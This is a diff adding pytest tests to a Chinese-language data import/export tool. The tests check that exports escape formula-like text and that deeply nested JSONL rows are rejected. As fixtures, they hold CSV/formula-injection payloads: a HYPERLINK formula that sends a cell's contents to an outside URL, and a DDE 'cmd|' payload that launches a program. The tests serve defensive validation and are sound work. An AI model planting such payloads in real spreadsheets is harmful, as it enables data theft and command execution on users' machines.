@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import json
 
 import openpyxl
 import pytest
@@ -98,6 +99,61 @@ def test_excel_export_keeps_formula_like_text_as_text(tmp_path):
     assert cell.data_type == "s" and cell.value == "=HYPERLINK(\"x\")"
 
 
+HOSTILE_TITLE = '=HYPERLINK("http://x?leak="&A1,"x")'
+# Text that starts like a formula, and text that only looks like it; the last four must come back untouched.
+FORMULA_LIKE = {"title": HOSTILE_TITLE, "enterprise": "+86 0631-5120", "region": "@区市", "contact": "-",
+                "industry_chain": "-2+3+cmd|' /C calc'!A0", "cooperation_mode": "'=引号开头",
+                "温度": "-3.5", "备注": "--", "负数": -3, "说明": "'普通文本"}
+
+
+def read_csv_cells(path) -> list[dict]:
+    with open(path, encoding="utf-8-sig", newline="") as source:
+        return list(csv.DictReader(source))
+
+
+def test_csv_export_writes_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
+    path = tmp_path / "out.csv"
+    importers.write_records([{**DEMAND, **FORMULA_LIKE, "=列名": "x"}], path, "demands", headers="keys")
+    [row] = read_csv_cells(path)
+    assert row["title"] == "'" + HOSTILE_TITLE
+    assert (row["enterprise"], row["region"]) == ("'+86 0631-5120", "'@区市")
+    assert row["industry_chain"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["cooperation_mode"] == "''=引号开头"   # one more quote, so that import gives the text back
+    assert (row["contact"], row["温度"], row["备注"], row["负数"], row["说明"]) == ("-", "-3.5", "--", "-3", "'普通文本")
+    assert row["budget_wan"] == "50" and row["'=列名"] == "x"
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_like_text_survives_an_export_and_import_round_trip(tmp_path, suffix):
+    record = importers.read_records(write_jsonl(tmp_path / "in.jsonl", [{**DEMAND, **FORMULA_LIKE}]), "demands")[0]
+    path = tmp_path / f"out{suffix}"
+    importers.write_records([record], path, "demands")
+    [back] = importers.read_records(path, "demands")
+    assert back == {**record, "负数": "-3" if suffix == ".csv" else -3}   # a CSV cell carries no type
+
+
+def test_excel_export_marks_every_formula_like_text_cell_as_quoted_text(tmp_path):
+    path = tmp_path / "out.xlsx"
+    importers.write_records([{**DEMAND, **FORMULA_LIKE, "状态码": "#N/A"}], path, "demands", headers="keys")
+    sheet = openpyxl.load_workbook(path).active
+    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2])}
+    for key in ("title", "enterprise", "region", "industry_chain"):
+        assert cells[key].data_type == "s" and cells[key].quotePrefix, key
+    assert cells["状态码"].data_type == "s" and cells["状态码"].value == "#N/A"   # not an Excel error value
+    assert cells["contact"].value == "-" and not cells["contact"].quotePrefix
+    assert cells["budget_wan"].data_type == "n" and cells["负数"].value == -3
+
+
+def test_the_cli_export_escapes_formula_like_text(invoke, tmp_path):
+    demands = write_jsonl(tmp_path / "d.jsonl", [{**DEMAND, "title": HOSTILE_TITLE}])
+    supplies = write_jsonl(tmp_path / "s.jsonl", [{**SUPPLY, "platform": "=1+2"}])
+    assert invoke("import", "demands", demands).exit_code == 0 and invoke("import", "supplies", supplies).exit_code == 0
+    assert invoke("export", "demands", "-o", tmp_path / "d.csv").exit_code == 0
+    assert invoke("export", "supplies", "-o", tmp_path / "s.csv").exit_code == 0
+    assert read_csv_cells(tmp_path / "d.csv")[0]["需求名称"] == "'" + HOSTILE_TITLE
+    assert read_csv_cells(tmp_path / "s.csv")[0]["平台名称"] == "'=1+2"
+
+
 BAD_ROWS = [
     ({"title": ""}, "title", "必填"),
     ({"description": None}, "description", "必填"),
@@ -148,6 +204,32 @@ def test_broken_jsonl_lines_are_reported_by_line(tmp_path, content, words):
         importers.read_records(path, "demands")
     assert rejected.value.problems[0].row == 1 and words in rejected.value.problems[0].message
 
+
+
+def nested(levels: int) -> str:
+    """A JSON array nested `levels` deep."""
+    return "[" * levels + "]" * levels
+
+
+@pytest.mark.parametrize("levels", [1000, 500, 33])
+def test_a_jsonl_line_nested_too_deep_is_a_row_error_and_nothing_is_written(tmp_path, db, invoke, levels):
+    path = tmp_path / "d.jsonl"
+    deep = json.dumps({**DEMAND, "id": "D-002", "附件": "PLACEHOLDER"}, ensure_ascii=False).replace('"PLACEHOLDER"',
+                                                                                                  nested(levels))
+    path.write_text(json.dumps(DEMAND, ensure_ascii=False) + "\n" + deep + "\n", encoding="utf-8")
+    with pytest.raises(importers.ImportRejected) as rejected:
+        importers.import_files(db, "demands", [path])
+    [problem] = rejected.value.problems
+    assert problem.row == 2 and "嵌套层数过多" in problem.message
+    assert store.count_records(db, "demands") == 0
+    result = invoke("import", "demands", path)
+    assert result.exit_code == 2 and "d.jsonl 第 2 行：JSON 嵌套层数过多" in result.output
+
+
+def test_a_jsonl_line_nested_within_the_limit_is_kept(tmp_path, db):
+    path = tmp_path / "d.jsonl"
+    path.write_text(json.dumps({**DEMAND, "附件": json.loads(nested(31))}, ensure_ascii=False) + "\n", encoding="utf-8")
+    assert importers.import_files(db, "demands", [path]) == 1
 
 def test_a_corrupt_xlsx_is_rejected(tmp_path):
     path = tmp_path / "d.xlsx"
